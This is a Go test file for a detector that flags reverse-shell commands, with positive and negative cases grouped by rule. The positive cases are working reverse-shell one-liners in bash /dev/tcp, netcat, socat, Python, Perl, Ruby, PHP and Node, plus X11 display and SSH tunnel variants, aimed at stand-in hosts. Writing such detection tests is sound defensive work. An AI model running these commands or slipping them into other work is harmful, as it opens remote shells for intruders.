package heuristics

import "testing"

func TestReverseShellDevTCP(t *testing.T) {
	runRuleCases(t, "revshell.dev-tcp", []ruleCase{
		cmdCase("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", true),
		cmdCase("sh -i > /dev/udp/10.0.0.1/53 0<&1 2>&1", true),
		cmdCase("exec 5<>/dev/tcp/evil.example/80; cat <&5 | while read l; do $l 2>&5 >&5; done", true),
		cmdCase(`bash -c 'bash -i >& /dev/tcp/10.0.0.1/9001 0>&1'`, true),
		cmdCase(`awk 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(1) {s |& getline c; print c |& s}}'`, true),
		cmdCase("ls /dev/ && cat /dev/null", false),
		cmdCase("nc -zv example.com 443", false),
		// A port check on this machine wires no shell to the socket.
		cmdCase("bash -c 'echo > /dev/tcp/127.0.0.1/8080' && echo open", false),
		cmdCase("timeout 1 bash -c '</dev/tcp/localhost/5432'", false),
		cmdCase("bash -i >& /dev/tcp/127.0.0.1/4444 0>&1", true), // through a forward
		cmdCase("echo > /dev/tcp/127.0.0.1/80; echo x > /dev/tcp/10.0.0.1/80", true),
	})
}

func TestReverseShellNetcat(t *testing.T) {
	runRuleCases(t, "revshell.netcat", []ruleCase{
		cmdCase("nc -e /bin/sh 10.0.0.1 4444", true),
		cmdCase("nc 10.0.0.1 4444 -e /bin/bash", true),
		cmdCase("ncat --exec /bin/bash 10.0.0.1 4444", true),
		cmdCase("ncat -lvp 4444 --sh-exec 'bash -i'", true),
		cmdCase("nc -lvnp 4444 -c bash", true),
		cmdCase("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f", true),
		cmdCase("nc 10.0.0.1 4444 | /bin/bash", true),
		cmdCase("/bin/sh -i 2>&1 | nc 10.0.0.1 4444", true),
		cmdCase("sudo nc -e /bin/sh 10.0.0.1 4444", true),
		cmdCase("nc -zv example.com 443", false),
		cmdCase("echo test | nc localhost 8080", false),
		cmdCase("telnet -e ^] example.com 23", false),
	})
}

func TestReverseShellSocat(t *testing.T) {
	runRuleCases(t, "revshell.socat", []ruleCase{
		cmdCase("socat tcp-connect:10.0.0.1:4444 exec:/bin/sh,pty,stderr,setsid", true),
		cmdCase("socat TCP:10.0.0.1:4444 EXEC:'bash -li',pty", true),
		cmdCase("socat TCP-LISTEN:4444,reuseaddr,fork SYSTEM:'sh'", true),
		cmdCase("socat TCP-LISTEN:8080,fork TCP:localhost:80", false),
		cmdCase("socat - UNIX-CONNECT:/var/run/docker.sock", false),
	})
}

func TestReverseShellScriptSocket(t *testing.T) {
	runRuleCases(t, "revshell.script-socket", []ruleCase{
		// The program glued to its option; -rsocket is ruby's -r with a value, not -e.
		cmdCase(`ruby -rsocket -e'f=TCPSocket.open("10.0.0.1",4242).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`, true),
		cmdCase(`perl -MIO -e'$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"10.0.0.1:4242");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'`, true),
		cmdCase(`python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])'`, true),
		cmdCase(`python -c 'import pty,socket;s=socket.socket();s.connect(("10.0.0.1",1));[__import__("os").dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'`, true),
		cmdCase(`perl -e 'use Socket;$i="10.0.0.1";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};'`, true),
		cmdCase(`ruby -rsocket -e 'f=TCPSocket.open("10.0.0.1",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`, true),
		cmdCase(`php -r '$sock=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`, true),
		// The same programs piped into the interpreter.
		cmdCase(`echo 'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])' | python3 -`, true),
		cmdCase(`echo 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("10.0.0.1")));open(STDIN,">&S");exec("/bin/sh -i");' | perl`, true),
		cmdCase(`echo 'import socket; print(socket.gethostname())' | python3`, false),
		cmdCase(`node -e 'var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var c=new net.Socket();c.connect(4444,"10.0.0.1",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);});'`, true),
		cmdCase(`python3 -c 'import socket; print(socket.gethostname())'`, false),
		cmdCase(`python3 -c 'import subprocess; subprocess.run(["ls"])'`, false),
	})
}

func TestReverseShellX11Display(t *testing.T) {
	runRuleCases(t, "revshell.x11-display", []ruleCase{
		cmdCase("xterm -display 203.0.113.7:1", true),
		cmdCase("xterm -display evil.example.com:0 -e /bin/bash", true),
		cmdCase("nohup xterm -display 203.0.113.7:1 &", true),
		cmdCase("DISPLAY=203.0.113.7:0 xterm", true),
		cmdCase("env DISPLAY=evil.example.com:0.0 xterm", true),
		cmdCase("sudo DISPLAY=203.0.113.7:0 xterm", true),
		cmdCase("export DISPLAY=203.0.113.7:0; xterm &", true),
		cmdCase("DISPLAY=tcp/evil.example.com:1 xclock", true),
		cmdCase("gnome-terminal --display=203.0.113.7:0", true),
		cmdCase(`sh -c "xterm -display 198.51.100.4:1"`, true),
		// Words printed into an X client's arguments reach it.
		cmdCase("echo -display 203.0.113.7:1 | xargs xterm", true),
		cmdCase("xterm $(echo -display 203.0.113.7:1)", true),
		cmdCase("xterm -display 3405803783:0", true), // 203.0.113.7 as one number
		cmdCase("xterm", false),
		cmdCase("DISPLAY=:0 xclock", false),
		cmdCase("xterm -display :1", false),
		cmdCase("DISPLAY=localhost:10.0 xeyes", false),
		cmdCase("DISPLAY=127.0.0.1:0 xterm", false),
		cmdCase("DISPLAY=unix:0 xterm", false),
		cmdCase("xterm -display $DISPLAY", false),
		cmdCase("export DISPLAY=:99 && Xvfb :99 &", false),
		cmdCase("DISPLAY=/private/tmp/com.apple.launchd.abc/org.xquartz:0 xterm", false),
		cmdCase("echo DISPLAY=203.0.113.7:0", false),
		cmdCase("grep -rn -- -display docs/", false),
		// Printing or testing a display name opens nothing.
		cmdCase("echo usage: xclock -display otherhost.example:0", false),
		cmdCase("printf '%s\\n' -display 203.0.113.7:1", false),
		cmdCase(`[ "$1" = -display ] && [ -display 0:00 ]`, false),
		// A number the resolver reads as this host.
		cmdCase("xterm -display 0:0", false),
		cmdCase("xterm -display 2130706433:0", false),
	})
}

func TestRevShellSSHTunnel(t *testing.T) {
	runRuleCases(t, "revshell.ssh-tunnel", []ruleCase{
		cmdCase("ssh -f -N -R 2222:localhost:22 tunnel@203.0.113.7", true),
		cmdCase("ssh -NR 8080:localhost:3000 serveo.net", true),
		cmdCase("ssh -L 5432:db.internal:5432 bastion.example.com", false),
		cmdCase("ssh deploy@example.com uptime", false),
	})
}
